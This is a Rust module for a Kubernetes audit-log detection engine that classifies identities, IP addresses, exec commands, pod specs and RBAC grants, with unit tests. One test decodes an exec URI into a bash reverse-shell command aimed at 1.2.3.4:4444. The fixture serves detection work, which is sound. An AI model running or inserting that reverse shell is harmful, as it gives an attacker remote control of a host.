//! Shared facts every detection rule reads, derived once here instead of in each rule: identity
//! class, source-IP class, the exec command decoded from the request URI, pod-spec facts and RBAC
//! facts from request bodies. Registered as UDFs plus views over `audit_events` ([`sql`]).
//!
//! This module is the Kubernetes semantics as plain functions (what a body or a user name means);
//! [`sql`] exposes them to rules.

use std::net::IpAddr;

use percent_encoding::percent_decode_str;
use serde_json::Value;

/// Managed-service identities of EKS and AKS that act on every cluster.
pub const CLOUD_SYSTEM_USERS: &[&str] = &["aksService", "masterclient", "hcpService", "nodeclient", "acsService", "aks-service", "readinessChecker"];

/// Identity class of a user: `anonymous`, `node`, `service_account`, `system_component`,
/// `cloud_system` (EKS `eks:*`, AKS managed identities, AWS service roles) or `human`.
pub fn identity_class(user: Option<&str>, groups: &[&str]) -> &'static str {
    let Some(u) = user.filter(|u| !u.is_empty()) else { return "anonymous" };
    if u == "system:anonymous" || groups.contains(&"system:unauthenticated") {
        "anonymous"
    } else if u.starts_with("system:node:") || groups.contains(&"system:nodes") {
        "node"
    } else if u.starts_with("system:serviceaccount:") {
        "service_account"
    } else if u.starts_with("eks:") || u.starts_with("aks:") || CLOUD_SYSTEM_USERS.contains(&u) || u.contains(":role/aws-service-role/") || u.contains(":assumed-role/AWSServiceRoleForAmazonEKS") {
        "cloud_system"
    } else if u.starts_with("system:") {
        "system_component"
    } else {
        "human"
    }
}

/// Class of an IP address: `loopback`, `private` (RFC 1918, CGNAT, link-local, ULA), `public`
/// or `invalid`.
pub fn ip_class(ip: &str) -> &'static str {
    match ip.trim().parse::<IpAddr>() {
        Err(_) => "invalid",
        Ok(IpAddr::V4(v4)) => {
            let o = v4.octets();
            if v4.is_loopback() {
                "loopback"
            } else if v4.is_private() || v4.is_link_local() || (o[0] == 100 && (64..128).contains(&o[1])) || v4.is_unspecified() {
                "private"
            } else {
                "public"
            }
        }
        Ok(IpAddr::V6(v6)) => {
            let first = v6.segments()[0];
            if v6.is_loopback() {
                "loopback"
            } else if let Some(v4) = v6.to_ipv4_mapped() {
                ip_class(&v4.to_string())
            } else if (first & 0xfe00) == 0xfc00 || (first & 0xffc0) == 0xfe80 || v6.is_unspecified() {
                "private"
            } else {
                "public"
            }
        }
    }
}

/// The command of an exec/attach request: every `command=` parameter of the URI, URL-decoded
/// (`+` is a space), joined with spaces. `None` when the URI has none.
pub fn exec_command(uri: &str) -> Option<String> {
    let query = uri.split_once('?')?.1;
    let parts: Vec<String> = query
        .split('&')
        .filter_map(|p| p.strip_prefix("command="))
        .map(|v| percent_decode_str(&v.replace('+', " ")).decode_utf8_lossy().into_owned())
        .collect();
    (!parts.is_empty()).then(|| parts.join(" "))
}

/// The command of an exec request body (`{"command": ["tar", "cf", "-", ...]}`, as some landings
/// carry it), joined with spaces.
pub fn body_command(body: &str) -> Option<String> {
    let v: Value = serde_json::from_str(body).ok()?;
    let parts: Vec<&str> = v.get("command")?.as_array()?.iter().filter_map(Value::as_str).collect();
    (!parts.is_empty()).then(|| parts.join(" "))
}

/// Pod-spec facts of a request body.
#[derive(Debug, Default, PartialEq)]
pub struct PodFacts {
    pub privileged: bool,
    pub host_pid: bool,
    pub host_network: bool,
    pub host_ipc: bool,
    pub run_as_root: bool,
    pub host_paths: Vec<String>,
    pub added_capabilities: Vec<String>,
    pub images: Vec<String>,
    pub service_account: Option<String>,
}

/// Pod-spec facts of a Pod, workload or CronJob body; `None` when it is not JSON or has no pod spec.
pub fn pod_facts(body: &str) -> Option<PodFacts> {
    serde_json::from_str::<typed_pod::Body>(body).ok()?.facts()
}

/// The parts of a Pod or workload body the pod facts read, deserialized without building the
/// rest (metadata, env, probes, ...). Every part tolerates any JSON type: a value of the wrong
/// type reads as absent, as it would when walking a `serde_json::Value` tree.
mod typed_pod {
    use std::marker::PhantomData;

    use serde::Deserialize;
    use serde::de::value::MapAccessDeserializer;
    use serde::de::{Deserializer, Error, MapAccess, SeqAccess, Visitor};
    use serde_json::Value;

    use super::PodFacts;

    /// What a body holds where an object of type `T` (or a list of them) is expected.
    #[derive(Default)]
    enum Json<T> {
        #[default]
        Absent,
        Object(T),
        List(Vec<T>),
        /// Present with another type (null, a scalar, a list of non-objects).
        Other,
    }

    impl<T> Json<T> {
        fn present(&self) -> bool {
            !matches!(self, Json::Absent)
        }

        fn object(&self) -> Option<&T> {
            match self {
                Json::Object(t) => Some(t),
                _ => None,
            }
        }

        fn items(&self) -> &[T] {
            match self {
                Json::List(items) => items,
                _ => &[],
            }
        }
    }

    impl<'de, T: Deserialize<'de>> Deserialize<'de> for Json<T> {
        fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
            struct ShapeVisitor<T>(PhantomData<T>);
            impl<'de, T: Deserialize<'de>> Visitor<'de> for ShapeVisitor<T> {
                type Value = Json<T>;
                fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                    f.write_str("any JSON value")
                }
                fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<Json<T>, A::Error> {
                    T::deserialize(MapAccessDeserializer::new(map)).map(Json::Object)
                }
                fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Json<T>, A::Error> {
                    let mut items = Vec::new();
                    while let Some(item) = seq.next_element::<Json<T>>()? {
                        if let Json::Object(t) = item {
                            items.push(t);
                        }
                    }
                    Ok(Json::List(items))
                }
                fn visit_bool<E: Error>(self, _: bool) -> Result<Json<T>, E> {
                    Ok(Json::Other)
                }
                fn visit_i64<E: Error>(self, _: i64) -> Result<Json<T>, E> {
                    Ok(Json::Other)
                }
                fn visit_u64<E: Error>(self, _: u64) -> Result<Json<T>, E> {
                    Ok(Json::Other)
                }
                fn visit_f64<E: Error>(self, _: f64) -> Result<Json<T>, E> {
                    Ok(Json::Other)
                }
                fn visit_str<E: Error>(self, _: &str) -> Result<Json<T>, E> {
                    Ok(Json::Other)
                }
                fn visit_unit<E: Error>(self) -> Result<Json<T>, E> {
                    Ok(Json::Other)
                }
            }
            d.deserialize_any(ShapeVisitor(PhantomData))
        }
    }

    #[derive(Deserialize)]
    pub struct Body {
        kind: Option<Value>,
        #[serde(default)]
        spec: Json<Spec>,
    }

    /// A Pod spec, a workload spec (with `template`) or a CronJob spec (with `jobTemplate`).
    #[derive(Deserialize)]
    #[serde(rename_all = "camelCase")]
    struct Spec {
        #[serde(rename = "hostPID")]
        host_pid: Option<Value>,
        host_network: Option<Value>,
        #[serde(rename = "hostIPC")]
        host_ipc: Option<Value>,
        #[serde(default)]
        security_context: Json<SecurityContext>,
        #[serde(default)]
        containers: Json<Container>,
        #[serde(default)]
        init_containers: Json<Container>,
        #[serde(default)]
        ephemeral_containers: Json<Container>,
        #[serde(default)]
        volumes: Json<Volume>,
        service_account_name: Option<Value>,
        service_account: Option<Value>,
        #[serde(default)]
        template: Json<Template>,
        #[serde(default)]
        job_template: Json<Template>,
    }

    #[derive(Deserialize)]
    struct Template {
        #[serde(default)]
        spec: Json<Box<Spec>>,
    }

    #[derive(Deserialize)]
    #[serde(rename_all = "camelCase")]
    struct SecurityContext {
        run_as_user: Option<Value>,
        run_as_non_root: Option<Value>,
        privileged: Option<Value>,
        #[serde(default)]
        capabilities: Json<Capabilities>,
    }

    #[derive(Deserialize)]
    struct Capabilities {
        add: Option<Value>,
    }

    #[derive(Deserialize)]
    #[serde(rename_all = "camelCase")]
    struct Container {
        image: Option<Value>,
        #[serde(default)]
        security_context: Json<SecurityContext>,
    }

    #[derive(Deserialize)]
    #[serde(rename_all = "camelCase")]
    struct Volume {
        #[serde(default)]
        host_path: Json<HostPath>,
    }

    #[derive(Deserialize)]
    struct HostPath {
        path: Option<Value>,
    }

    fn root(sc: Option<&SecurityContext>) -> bool {
        sc.is_some_and(|sc| sc.run_as_user.as_ref().and_then(Value::as_i64) == Some(0) || sc.run_as_non_root.as_ref().and_then(Value::as_bool) == Some(false))
    }

    fn template_spec(t: &Json<Template>) -> Option<&Spec> {
        t.object()?.spec.object().map(Box::as_ref)
    }

    impl Body {
        /// The pod spec: a Pod's own, a workload's template's, a CronJob's job template's.
        fn pod_spec(&self) -> Option<&Spec> {
            let spec = self.spec.object()?;
            match self.kind.as_ref().and_then(Value::as_str) {
                Some("CronJob") => spec.job_template.object().and_then(|j| j.spec.object()).and_then(|s| template_spec(&s.template)),
                Some("Pod") | None if spec.containers.present() => Some(spec),
                _ => template_spec(&spec.template).or_else(|| spec.containers.present().then_some(spec)),
            }
        }

        pub fn facts(&self) -> Option<PodFacts> {
            let spec = self.pod_spec()?;
            let flag = |v: &Option<Value>| v.as_ref().and_then(Value::as_bool).unwrap_or(false);
            let text = |v: &Option<Value>| v.as_ref().and_then(Value::as_str).map(str::to_owned);
            let mut f = PodFacts {
                host_pid: flag(&spec.host_pid),
                host_network: flag(&spec.host_network),
                host_ipc: flag(&spec.host_ipc),
                service_account: text(&spec.service_account_name).or_else(|| text(&spec.service_account)),
                run_as_root: root(spec.security_context.object()),
                ..PodFacts::default()
            };
            for list in [&spec.containers, &spec.init_containers, &spec.ephemeral_containers] {
                for c in list.items() {
                    let sc = c.security_context.object();
                    f.privileged |= sc.and_then(|s| s.privileged.as_ref()).and_then(Value::as_bool).unwrap_or(false);
                    f.run_as_root |= root(sc);
                    if let Some(img) = c.image.as_ref().and_then(Value::as_str) {
                        f.images.push(img.to_owned());
                    }
                    let added = sc.and_then(|s| s.capabilities.object()).and_then(|c| c.add.as_ref()).and_then(Value::as_array);
                    for cap in added.into_iter().flatten().filter_map(Value::as_str) {
                        f.added_capabilities.push(cap.trim_start_matches("CAP_").to_uppercase());
                    }
                }
            }
            for vol in spec.volumes.items() {
                if let Some(p) = vol.host_path.object().and_then(|h| h.path.as_ref()).and_then(Value::as_str) {
                    f.host_paths.push(p.to_owned());
                }
            }
            Some(f)
        }
    }
}

/// RBAC facts of a Role/ClusterRole or (Cluster)RoleBinding body.
#[derive(Debug, Default, PartialEq)]
pub struct RbacFacts {
    pub role_ref_kind: Option<String>,
    pub role_ref_name: Option<String>,
    /// `Kind:namespace/name` (namespace empty for cluster-scoped subjects).
    pub subjects: Vec<String>,
    /// Every (verb, resource) a role grants, as `verb resource` (`* *`, `get secrets`, `create pods/exec`).
    pub grants: Vec<String>,
    pub verbs: Vec<String>,
    pub resources: Vec<String>,
}

pub fn rbac_facts(body: &str) -> Option<RbacFacts> {
    let v: Value = serde_json::from_str(body).ok()?;
    let s = |p: &str| v.pointer(p).and_then(Value::as_str).map(str::to_owned);
    let mut f = RbacFacts { role_ref_kind: s("/roleRef/kind"), role_ref_name: s("/roleRef/name"), ..RbacFacts::default() };
    for subj in v.get("subjects").and_then(Value::as_array).into_iter().flatten() {
        let g = |k: &str| subj.get(k).and_then(Value::as_str).unwrap_or("");
        f.subjects.push(format!("{}:{}/{}", g("kind"), g("namespace"), g("name")));
    }
    let strs = |r: &Value, k: &str| -> Vec<String> { r.get(k).and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect() };
    for rule in v.get("rules").and_then(Value::as_array).into_iter().flatten() {
        let (verbs, resources) = (strs(rule, "verbs"), strs(rule, "resources"));
        for verb in &verbs {
            for res in &resources {
                f.grants.push(format!("{verb} {res}"));
            }
        }
        f.verbs.extend(verbs);
        f.resources.extend(resources);
    }
    f.verbs.sort();
    f.verbs.dedup();
    f.resources.sort();
    f.resources.dedup();
    Some(f)
}

mod sql;

pub use sql::{FACT_VIEWS, register, register_udfs};

/// True when every value matches at least one SQL LIKE pattern (`%`, `_`); false for no values or
/// no patterns. Rules use it for allow-lists of patterns, e.g. "every image is allow-listed".
pub fn all_like(values: &[&str], patterns: &[&str]) -> bool {
    all_match(like_any_regex(patterns).as_ref(), values)
}

/// True when there are values and `re` (the patterns' matcher; `None` for no patterns) matches
/// every one.
fn all_match(re: Option<&regex::Regex>, values: &[impl AsRef<str>]) -> bool {
    re.is_some_and(|re| !values.is_empty() && values.iter().all(|v| re.is_match(v.as_ref())))
}

/// One regex matching a value that matches any of the SQL LIKE patterns; `None` for no patterns.
fn like_any_regex(patterns: &[&str]) -> Option<regex::Regex> {
    if patterns.is_empty() {
        return None;
    }
    let mut re = String::from("^(?:");
    for (i, pattern) in patterns.iter().enumerate() {
        if i > 0 {
            re.push('|');
        }
        for c in pattern.chars() {
            match c {
                '%' => re.push_str("(?s:.*)"),
                '_' => re.push_str("(?s:.)"),
                c => re.push_str(&regex::escape(c.encode_utf8(&mut [0; 4]))),
            }
        }
    }
    re.push_str(")$");
    regex::Regex::new(&re).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identity_classes() {
        assert_eq!(identity_class(Some("system:anonymous"), &[]), "anonymous");
        assert_eq!(identity_class(None, &[]), "anonymous");
        assert_eq!(identity_class(Some("system:node:ip-10-0-0-1"), &["system:nodes"]), "node");
        assert_eq!(identity_class(Some("system:serviceaccount:kube-system:coredns"), &[]), "service_account");
        assert_eq!(identity_class(Some("system:kube-controller-manager"), &[]), "system_component");
        assert_eq!(identity_class(Some("eks:node-manager"), &[]), "cloud_system");
        assert_eq!(identity_class(Some("aksService"), &[]), "cloud_system");
        assert_eq!(identity_class(Some("alice@example.com"), &["system:authenticated"]), "human");
    }

    #[test]
    fn ip_classes() {
        assert_eq!(ip_class("127.0.0.1"), "loopback");
        assert_eq!(ip_class("10.1.2.3"), "private");
        assert_eq!(ip_class("100.64.0.1"), "private");
        assert_eq!(ip_class("169.254.169.254"), "private");
        assert_eq!(ip_class("185.220.101.4"), "public");
        assert_eq!(ip_class("fd00::1"), "private");
        assert_eq!(ip_class("2001:db8::1"), "public");
        assert_eq!(ip_class("12.000.22.33"), "invalid");
    }

    #[test]
    fn exec_commands_are_decoded() {
        let uri = "/api/v1/namespaces/default/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4444+0%3E%261&container=web&stdin=true";
        assert_eq!(exec_command(uri).as_deref(), Some("bash -c bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert_eq!(exec_command("/api/v1/pods"), None);
    }

    #[test]
    fn like_allow_lists() {
        let p = ["602401143452.dkr.ecr.%.amazonaws.com/%", "nginx"];
        assert!(all_like(&["602401143452.dkr.ecr.us-east-1.amazonaws.com/eks/kube-proxy:v1"], &p));
        assert!(!all_like(&["602401143452.dkr.ecr.us-east-1.amazonaws.com/x", "ubuntu"], &p));
        assert!(!all_like(&[], &p));
        assert!(!all_like(&["nginx"], &[]));
        assert!(all_like(&["nginx"], &p) && !all_like(&["nginx:1"], &p));
    }

    #[test]
    fn pod_facts_tolerate_any_shape() {
        let deployment = r#"{"kind":"Deployment","metadata":{"labels":{"a":"b"}},"spec":{"replicas":2,"template":{"metadata":{},"spec":{"hostNetwork":true,"serviceAccountName":"sa","securityContext":{"runAsUser":0},"volumes":[{"name":"v","hostPath":{"path":"/var/log"}},{"name":"e","emptyDir":{}}],"initContainers":[{"image":"init","securityContext":{"capabilities":{"add":["CAP_NET_ADMIN"]}}}],"containers":[{"image":"a","env":[{"name":"X","value":"1"}]}]}}}}"#;
        let f = pod_facts(deployment).unwrap();
        assert!(f.host_network && f.run_as_root && !f.privileged);
        assert_eq!((f.images, f.host_paths, f.added_capabilities, f.service_account), (vec!["a".to_owned(), "init".to_owned()], vec!["/var/log".to_owned()], vec!["NET_ADMIN".to_owned()], Some("sa".to_owned())));
        let cron = r#"{"kind":"CronJob","spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"hostIPC":true,"containers":[{"image":"c","securityContext":{"runAsNonRoot":false,"privileged":true}}]}}}}}}"#;
        let f = pod_facts(cron).unwrap();
        assert!(f.host_ipc && f.privileged && f.run_as_root);
        // Wrong types read as absent; the rest of the body still counts.
        let odd = r#"{"kind":"Pod","spec":{"hostPID":"yes","securityContext":[1],"volumes":{"x":1},"containers":[7,null,{"image":"p","securityContext":"privileged"},{"image":["q"]}]}}"#;
        let f = pod_facts(odd).unwrap();
        assert!(!f.host_pid && !f.privileged && f.host_paths.is_empty());
        assert_eq!(f.images, ["p"]);
        // A pod spec whose containers are not a list is still a pod spec, without images.
        assert_eq!(pod_facts(r#"{"kind":"Pod","spec":{"containers":{"not":"a list"}}}"#), Some(PodFacts::default()));
        assert_eq!(pod_facts(r#"{"spec":{"containers":[{"image":"bare"}]}}"#).unwrap().images, ["bare"]);
        assert_eq!(pod_facts(r#"{"kind":"Service","spec":{"ports":[]}}"#), None);
        assert_eq!(pod_facts(r#"{"kind":"Pod","spec":null}"#), None);
        assert_eq!(pod_facts("not json"), None);
    }

    #[test]
    fn pod_and_rbac_facts() {
        let pod = r#"{"kind":"Deployment","spec":{"template":{"spec":{"hostPID":true,"volumes":[{"hostPath":{"path":"/"}}],"containers":[{"image":"a"},{"image":"b","securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN"]}}}]}}}}"#;
        let f = pod_facts(pod).unwrap();
        assert!(f.privileged && f.host_pid && !f.host_network);
        assert_eq!(f.host_paths, ["/"]);
        assert_eq!(f.added_capabilities, ["SYS_ADMIN"]);
        assert_eq!(f.images, ["a", "b"]);
        let role = r#"{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"eve"}],"rules":[{"verbs":["get","list"],"resources":["secrets"]}]}"#;
        let r = rbac_facts(role).unwrap();
        assert_eq!(r.role_ref_name.as_deref(), Some("cluster-admin"));
        assert_eq!(r.subjects, ["User:/eve"]);
        assert_eq!(r.grants, ["get secrets", "list secrets"]);
    }
}
